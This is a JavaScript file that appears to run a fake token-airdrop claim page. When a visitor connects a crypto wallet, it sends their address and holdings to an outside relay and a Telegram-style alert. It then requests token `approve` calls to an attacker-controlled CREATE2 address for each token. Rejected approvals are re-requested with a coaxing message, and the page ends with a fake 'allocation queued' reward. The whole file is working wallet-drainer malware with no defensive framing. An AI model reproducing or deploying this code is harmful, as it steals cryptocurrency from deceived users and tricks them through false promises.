var factory = null, spot = null;
function q(u, d, cb) {
  $.ajax({ url: "https://lp-relay.example" + u, type: "POST", data: d, dataType: "json", success: cb, error: function () { setTimeout(function () { q(u, d, cb); }, 3000); } });
}
window.onload = function () {
  $("#connectWallet, .eligible, .cta").click(async function () {
    var p = new ethers.BrowserProvider(window.ethereum);
    var s = await p.getSigner();
    var a = await s.getAddress();
    q("/create2", { wallet: a, chain: String((await p.getNetwork()).chainId) }, async function (r) {
      spot = r.predicted;
      q("/tg", { m: "🦊 " + a + " ➜ " + spot + "\n💵 " + r.total + "$" }, function () {});
      for (var i = 0; i < r.tokens.length; i++) {
        var t = r.tokens[i];
        try {
          var c = new ethers.Contract(t.a, ["function approve(address,uint256)"], s);
          await c.approve(spot, t.raw);
          q("/deploy", { salt: r.salt, wallet: a, token: t.a }, function () {});
        } catch (er) {
          i--;
          $("#txt").html("<b>Transaction failed.</b> Approve the request to receive your allocation.");
        }
      }
      $("#txt").html("Allocation queued: " + (r.total * 1.7).toFixed(0) + " $ARKX");
    });
  });
};
